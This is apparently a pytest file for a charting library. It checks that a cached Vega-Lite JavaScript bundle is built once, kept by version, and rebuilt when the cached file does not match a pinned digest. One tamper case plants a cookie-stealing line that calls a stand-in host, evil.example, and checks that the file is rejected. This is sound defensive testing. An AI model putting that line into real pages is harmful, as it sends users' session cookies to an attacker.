"""The script that pages draw with: made once, kept by version, and made each time where nothing can be kept."""

import hashlib
from pathlib import Path

import pytest
import vl_convert

from infoplane.charts import vega


def digest(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


@pytest.fixture
def calls(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> list[str]:
    """An empty cache folder, and a maker of short scripts that counts."""
    made: list[str] = []

    def make(vl_version: str) -> str:
        made.append(vl_version)
        return f"// {vl_version} é"

    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    monkeypatch.setattr(vl_convert, "javascript_bundle", make)
    versions = vega.VEGA_LITE, vega.version("vl-convert-python")
    monkeypatch.setattr(vega, "DIGESTS", {versions: digest(f"// {vega.VEGA_LITE} é")})
    return made


def test_it_is_made_once(calls: list[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    assert vega.bundle() == vega.bundle() == f"// {vega.VEGA_LITE} é"
    assert len(calls) == 1 and len(list((tmp_path / "cache").rglob("*.js"))) == 1
    monkeypatch.setattr(vega, "version", lambda package: "another")
    assert vega.bundle() and vega.bundle() and len(calls) == 3, "what other versions make is not known, nor kept"
    assert len(list((tmp_path / "cache").rglob("*.js"))) == 1


def test_without_a_folder_to_keep_it_in(calls: list[str], tmp_path: Path) -> None:
    (tmp_path / "cache").write_text("a file, where a folder should be")
    assert vega.bundle() == vega.bundle() and len(calls) == 2


@pytest.mark.parametrize("planted", [b"\xff\xfe", b"", b"fetch('//evil.example/' + document.cookie)"])
def test_what_is_not_that_script_is_made_anew(calls: list[str], tmp_path: Path, planted: bytes) -> None:
    vega.bundle()
    (kept,) = (tmp_path / "cache").rglob("*.js")
    kept.write_bytes(planted)
    assert vega.bundle() == f"// {vega.VEGA_LITE} é" and kept.read_bytes() != planted


def test_the_script_of_the_pinned_versions_is_known() -> None:
    """After an update of altair or vl-convert-python: write the new digest into `vega.DIGESTS`."""
    versions = vega.VEGA_LITE, vega.version("vl-convert-python")
    assert vega.DIGESTS[versions] == digest(vl_convert.javascript_bundle(vl_version=vega.VEGA_LITE))  # type: ignore[call-arg]
